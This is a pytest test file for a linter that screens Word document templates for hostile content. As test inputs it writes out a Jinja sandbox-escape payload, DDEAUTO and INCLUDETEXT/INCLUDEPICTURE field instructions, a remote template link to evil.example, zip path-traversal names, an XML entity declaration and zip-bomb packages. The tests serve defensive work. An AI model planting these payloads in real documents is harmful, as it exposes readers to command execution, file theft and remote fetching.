"""Hostile templates: none is opened, run, fetched or left to grow, and each is told with its reason."""

from __future__ import annotations

import builtins
import io
import re
import socket
import zipfile
from collections.abc import Callable
from typing import Any

import pytest

from bizcase.archive import packed
from bizcase.case import HouseTemplate, build
from bizcase.document import sandbox
from bizcase.document.lint import template_errors
from bizcase.document.linting.sentinel import sentinel
from bizcase.document.linting.story import read_stories
from bizcase.document.word import Properties, render
from bizcase.errors import Severity, TemplateFault
from tests.building import case_of, sample_data
from tests.document.house import (
    BODY,
    HEADER,
    LINKS,
    NAME,
    PROBLEM,
    SHAPE,
    SMALL,
    STYLES,
    TYPES,
    after_the_problem,
    changed,
    codes,
    findings,
    parts_of,
    replaced,
    small_template,
    told,
    with_paragraphs,
    with_part,
)
from tests.document.test_template import ATTACKS

HERE = f"{PROBLEM}, paragraph 1"
RELATIONSHIP = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
                'Target="{}"{}/></Relationships>')


# What the tags may not do.


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("where", [BODY, HEADER])
def test_an_attack_is_told_as_an_error_at_its_place(attack: str, where: str) -> None:
    tag = attack.replace("&", "&amp;").replace("<", "&lt;")
    template = changed(where, lambda xml: xml.replace("</w:p>", f"<w:r><w:t>{tag}</w:t></w:r></w:p>", 1))
    found = template_errors(template, NAME, SMALL, SHAPE)
    assert {finding.code for finding in found} <= {"T12", "T20", "T21", "T22"}
    assert found and all(", paragraph " in finding.message and attack in finding.message for finding in found)


@pytest.mark.parametrize("where", ['w:anchor="{0}"', 'w:tooltip="{0}"'])
def test_an_attack_in_an_attribute_is_told(where: str) -> None:
    link = f"<w:p><w:hyperlink {where.format('{{ document.title.encode() }}')}><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>"
    assert codes(after_the_problem(link)) == ["T22"]


@pytest.mark.parametrize("tag", [
    "{% set a = document.title %}", "{% with a = document.title %}x{% endwith %}", "{% macro m() %}x{% endmacro %}",
    "{% filter upper %}x{% endfilter %}", "{% block b %}x{% endblock %}", "{% call x() %}{% endcall %}", "{% raw %}x{% endraw %}",
    "{% autoescape false %}x{% endautoescape %}", "{% do x %}", "{% cellbg document.title %}", "{% colspan 2 %}",
    "{{ document.title|safe }}", "{{ document.title|attr('x') }}", "{{ document.title is callable }}", "{{ loop.cycle }}",
    "{{ document.title[0:3] }}", "{{ -1 }}", "{{ {'a': 1} }}", "{{ document[bid.kind] }}", "{{ 1 + 1 }}", "{{ 'a' + 'b' }}",
])
def test_whatever_is_not_printing_repeating_or_choosing_is_refused(tag: str) -> None:
    found = template_errors(with_paragraphs(tag), NAME, SMALL, SHAPE)
    assert found
    assert {finding.code for finding in found} <= {"T20", "T21", "T22"}


def test_a_template_with_an_attack_runs_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither the check nor a build opens a file, a connection or the template itself with Word's library."""
    def never(*_: object, **__: object) -> None:
        raise AssertionError("a hostile template was acted upon")

    case = case_of(sample_data("remote-monitoring"))
    template = with_paragraphs("{{ ''.__class__.__mro__[1].__subclasses__() }}")
    build(case)
    known = sentinel(SMALL)
    monkeypatch.setattr("bizcase.document.lint.sentinel", lambda _: known)
    monkeypatch.setattr(builtins, "open", never)
    monkeypatch.setattr(socket, "socket", never)
    monkeypatch.setattr("bizcase.document.linting.trial.render", never)
    monkeypatch.setattr("bizcase.document.bid.render", never)
    assert "T22" in codes(template)
    with pytest.raises(TemplateFault):
        build(case, template=HouseTemplate(NAME, template))


# Tags that a reader of paragraphs would not see.


@pytest.mark.parametrize("hidden", [
    "<!-- {{ document.keys() }} -->", "<?x {{ document.keys() }}?>", '<w:p xmlns:x="{{ document.keys() }}"/>',
])
def test_a_tag_in_a_comment_or_a_namespace_is_refused_unopened(hidden: str) -> None:
    found = findings(after_the_problem(hidden))
    assert [(finding.code, finding.message) for finding in found] == [
        ("T02", f"its part {BODY} holds a tag where nobody can see it")]


@pytest.mark.parametrize("xml", [
    "<w:p><w:r><w:t>{</w:t></w:r></w:p><w:p><w:r><w:t>{ document.keys() }}</w:t></w:r></w:p>",
    "<w:p><w:r><w:delText>{</w:delText><w:t>{ document.keys() }}</w:t></w:r></w:p>",
    "<w:p><w:r><w:t>{</w:t></w:r></w:p><w:p/><w:p><w:r><w:t>% include 'x' %}</w:t></w:r></w:p>",
    "<w:p><w:r><w:t>{</w:t></w:r></w:p><w:p><w:r><w:t>{ document.keys() }</w:t></w:r></w:p><w:p><w:r><w:t>}</w:t></w:r></w:p>",
    "<w:p><w:r><w:delText>{</w:delText></w:r><w:r><w:t>{ document.keys() }</w:t></w:r><w:r><w:delText>}</w:delText></w:r></w:p>",
    "<w:p><w:r><w:t>{{ document.title</w:t></w:r><w:r><w:instrText>.keys() }}</w:instrText></w:r></w:p>",
])
def test_a_tag_made_of_pieces_that_stand_apart_is_told(xml: str) -> None:
    assert "T10" in codes(after_the_problem(xml))


def test_every_text_of_a_rendered_part_is_looked_at() -> None:
    attack = "{{ document.keys() }}"
    xml = (f"<w:p><w:r><w:instrText>{attack}</w:instrText></w:r><w:r><w:delText>{attack}</w:delText></w:r>{attack}"
           f'<w:r><w:sym w:char="{attack}"/></w:r></w:p>')
    (body, *_) = read_stories(parts_of(after_the_problem(xml)))
    assert len([tag for tag in body.tags if tag.raw == attack]) == 4


# The package.


def entries(*more: tuple[str, bytes]) -> bytes:
    """The small template with entries added as they are, names twice and all."""
    buffer = io.BytesIO(small_template())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in more:
            archive.writestr(name, content)
    return buffer.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(("template", "message"), [
    (lambda: entries((BODY, b"<x/>")), f"its part {BODY.lower()} is there twice"),
    (lambda: entries(("WORD/Document.xml", b"<x/>")), "its part word/document.xml is there twice"),
    (lambda: entries(("../out.xml", b"<x/>")), "its part ../out.xml has a name that leads out of it"),
    (lambda: entries(("/etc/out.xml", b"<x/>")), "its part /etc/out.xml has a name that leads out of it"),
    (lambda: entries(("word/big.xml", b" " * 5_000_000)), "its part word/big.xml grows to more than 100 times its size"),
    (lambda: entries(*((f"word/{number}.xml", b"<x/>") for number in range(2_001))), "parts; a document has at most 2,000"),
    (lambda: with_part("word/more.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
     "its part word/more.xml declares a document type"),
    (lambda: with_part("word/more.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")),
     "its part word/more.xml declares a document type"),
    (lambda: with_part("word/more.xml", b"<x>" * 200 + b"</x>" * 200), "its part word/more.xml is nested more than 100 deep"),
    (lambda: with_part("word/more.xml", b"<x>"), "its part word/more.xml is not well formed"),
    (lambda: with_part("word/more.xml", b"<x>" + b"<y/>" * 200_001 + b"</x>"), "elements; a template has at most 200,000"),
])
def test_a_package_that_word_never_makes_is_not_opened(template: Callable[[], bytes], message: str) -> None:
    found = findings(template())
    assert {finding.code for finding in found} == {"T02"}
    assert any(message in finding.message for finding in found)


@pytest.mark.parametrize(("content", "code", "message"), [
    (b"", "T01", "this is empty"), (b"not a zip", "T01", "this is not a Word file"),
    (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "T01", "this is an old or encrypted Office file"),
    (b"PK\x03\x04" + b"\0" * 600, "T01", "this is not a Word file, or it is damaged"),
    (packed({"a.txt": b"x"}), "T01", "this is not a Word document"),
    (b"PK\x03\x04" + b"\0" * 20_000_000, "T02", "bytes; a template has at most 20,000,000"),
])
def test_what_is_no_word_file_is_told_in_one_line(content: bytes, code: str, message: str) -> None:
    (found,) = findings(content)
    assert found.code == code
    assert message in found.message


def test_a_template_cut_short_is_told_in_one_line() -> None:
    whole = small_template()
    for share in (0.3, 0.6, 0.95):
        (found,) = findings(whole[:int(len(whole) * share)])
        assert found.code == "T01"


def test_an_entry_that_says_it_is_smaller_than_it_is_does_no_harm() -> None:
    lying = bytearray(entries(("word/big.xml", b" " * 3_000_000)))
    end = lying.rindex(b"PK\x01\x02")
    lying[end + 24:end + 28] = (1_000).to_bytes(4, "little")
    assert [finding.code for finding in findings(bytes(lying))] in (["T01"], ["T02"])


def test_word_s_own_templates_and_files_with_macros_are_named() -> None:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    dotx = replaced(TYPES, main, main.replace("document.main", "template.main"))
    docm = replaced(TYPES, main, "application/vnd.ms-word.document.macroEnabled.main+xml")
    assert told(dotx) == ["T01 this is saved as a Word template (.dotx)"]
    assert told(docm) == ["T03 this is a Word file with macros, whatever its name ends in"]


# Links, objects and fields.


@pytest.mark.parametrize(("kind", "target", "mode", "expected"), [
    ("attachedTemplate", "https://evil.example/t.dotm", "External",
     "T04 the body links to another template: https://evil.example/t.dotm"),
    ("image", "file://server/share/logo.png", "External",
     "T04 the body links to a picture that is not in the file: file://server/share/logo.png"),
    ("oleObject", "file:///C:/secret.xlsx", "External", "T04 the body links to an object of another file: file:///C:/secret.xlsx"),
    ("frame", "https://evil.example", "External", "T04 the body links to something outside the file: https://evil.example"),
    ("hyperlink", "file://server/share", "External", "T04 the body links to something outside the file: file://server/share"),
    ("hyperlink", "javascript:alert(1)", "External", "T04 the body links to something outside the file: javascript:alert(1)"),
    ("oleObject", "embeddings/o.bin", "", "T03 the body holds an embedded object"),
    ("aFChunk", "chunk.html", "", "T03 the body holds another file's content"),
    ("control", "activeX/a.xml", "", "T03 the body holds an ActiveX control"),
])
def test_links_and_objects_are_told_with_their_target(kind: str, target: str, mode: str, expected: str) -> None:
    link = RELATIONSHIP.format(kind, target, f' TargetMode="{mode}"' if mode else "")
    found = findings(replaced(LINKS, "</Relationships>", link))
    assert [f"{finding.code} {finding.message}" for finding in found if finding.severity is Severity.ERROR] == [expected]


@pytest.mark.parametrize("target", ["https://www.england.nhs.uk", "mailto:hub@northmoor.example"])
def test_an_ordinary_link_is_not_told(target: str) -> None:
    link = RELATIONSHIP.format("hyperlink", target, ' TargetMode="External"')
    assert template_errors(replaced(LINKS, "</Relationships>", link), NAME, SMALL, SHAPE) == []


@pytest.mark.parametrize("kind", ["application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml"])
def test_a_part_that_can_run_is_told(kind: str) -> None:
    template = replaced(TYPES, "</Types>", f'<Override PartName="/word/x.bin" ContentType="{kind}"/></Types>',
                        with_part("word/x.bin", b"x"))
    assert "T03" in codes(template)


@pytest.mark.parametrize("instruction", ["INCLUDETEXT C:\\\\secret.txt", "INCLUDEPICTURE http://evil.example/x",
                                         "DDEAUTO c:\\\\cmd x",
                                         "LINK Excel.Sheet", "includetext x", "DATABASE x", "MACROBUTTON x"])
@pytest.mark.parametrize("simple", [True, False])
def test_a_field_that_reads_or_runs_is_told(instruction: str, simple: bool) -> None:
    field = (f'<w:p><w:fldSimple w:instr=" {instruction} "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' if simple else
             '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + "".join(
                 f"<w:r><w:instrText>{half}</w:instrText></w:r>" for half in (f" {instruction[:4]}", f"{instruction[4:]} "))
             + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    (found,) = findings(after_the_problem(field))
    word = instruction.split()[0].upper()
    assert (found.code, found.message) == (
        "T05", f'{HERE} "x": holds the field {word}, which reads or runs something when a bid is opened')


def test_a_value_never_becomes_a_field_s_instruction_but_for_a_bookmark() -> None:
    field = '<w:p><w:fldSimple w:instr=" {} "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    assert codes(after_the_problem(field.format("{{ problem.summary }}"))) == ["T05"]
    assert codes(after_the_problem(field.format("QUOTE {{ problem.summary }}"))) == ["T05"]
    loop = "<w:p><w:r><w:t>{%p for entry in contents %}</w:t></w:r></w:p>", "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>"
    page = loop[0] + field.format("PAGEREF {{ entry.bookmark }} \\h") + loop[1]
    assert codes(after_the_problem(page)) == []


def test_another_file_s_content_is_told() -> None:
    chunk = '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId77"/>'
    assert codes(after_the_problem(chunk)) == ["T03"]


# What would grow without end.


def test_a_third_loop_over_a_list_of_its_own_is_refused() -> None:
    loops = [f"{{%p for {name} in contents %}}" for name in ("a", "b", "c")]
    template = with_paragraphs(*loops, "{{ c.title }}", *["{%p endfor %}"] * 3)
    (found,) = findings(template)
    assert (found.code, found.message.split(": ")[0]) == ("T06", f"{PROBLEM}, paragraph 3")
    two = with_paragraphs(*loops[:2], "{{ b.title }}", *["{%p endfor %}"] * 2)
    assert codes(two) == []


def test_a_loop_over_what_belongs_to_the_rows_of_another_is_no_third() -> None:
    assert codes(with_paragraphs("{%p for row in stakeholders.map %}", "{%p for block in row.cells.contacts_so_far.blocks %}",
                                 "{%p for part in block %}", "{%p for piece in part.value.pieces %}", "{{ piece }}",
                                 *["{%p endfor %}"] * 4)) == []


@pytest.mark.parametrize("loop", ["{%p for x in [1, 2, 3] %}", "{%p for x in 'abc' %}", "{%p for x in range(1000000000) %}",
                                  "{%p for x, y in contents %}", "{%p for x in contents recursive %}"])
def test_a_loop_over_anything_but_a_list_of_the_specification_is_refused(loop: str) -> None:
    found = {finding.code for finding in template_errors(with_paragraphs(loop, "x", "{%p endfor %}"), NAME, SMALL, SHAPE)}
    assert "T22" in found
    assert found <= {"T20", "T22"}


@pytest.mark.parametrize("texts", [
    ["{{ " + "(" * 240 + "problem.summary" + ")" * 240 + " }}"], ["{{ " + "'" + "x" * 600 + "' }}"],
    ["{%p if problem.summary %}"] * 31 + ["{%p endif %}"] * 31, ["{{ bid.kind }}" * 20_001],
])
def test_nesting_length_and_number_of_tags_are_bounded(texts: list[str]) -> None:
    assert "T06" in codes(with_paragraphs(*texts))


def test_a_bid_that_grows_without_end_is_stopped_while_it_grows(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [{"title": "x" * 1_000} for _ in range(200)]
    names = {"document": {"title": "T", "organisation": "O"}, "bid": {"standing": "S"}, "rows": rows}
    template = replaced(BODY, "<w:body>", "<w:body>" + "".join(
        f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in ("{%p for a in rows %}", "{%p for b in rows %}", "{{ b.title }}",
                                                                "{%p endfor %}", "{%p endfor %}")), _frame())
    assert sandbox.MOST_PRINTED == 50_000_000
    monkeypatch.setattr(sandbox, "MOST_PRINTED", 1_000_000)
    with pytest.raises(TemplateFault) as caught:
        render(template, NAME, names, Properties("T", "A", "S"))
    assert "grows to more than 1,000,000 characters" in caught.value.findings[0].message


def _frame() -> bytes:
    """A template with nothing in its body but its last line."""
    last_line = re.compile(r"<w:body>.*(?=<w:p>(?:(?!<w:p>).)*</w:p><w:sectPr)", re.DOTALL)
    return changed(BODY, lambda body: last_line.sub("<w:body>", body))


def test_the_styles_part_is_read_with_care() -> None:
    assert "T02" in codes(changed(STYLES, lambda text: "<!DOCTYPE x>" + text.partition("?>")[2]))


def test_the_linter_gives_findings_and_never_an_error_for_a_template_in_which_any_character_is_changed() -> None:
    """A template damaged at many places of its body, one at a time."""
    body = parts_of(small_template())[BODY].decode()
    tags = [found.start() for found in re.finditer(r"\{[{%]|[%}]\}", body)]
    assert len(tags) > 400
    tried: list[Any] = []
    for number, place in enumerate(tags[::37]):
        sign = "{}%#\"'. "[number % 8]
        damaged = body[:place] + sign + body[place + 1:]
        tried.append(template_errors(packed({**parts_of(small_template()), BODY: damaged.encode()}), NAME, SMALL, SHAPE))
    assert len(tried) > 15
    assert all(isinstance(found, list) for found in tried)
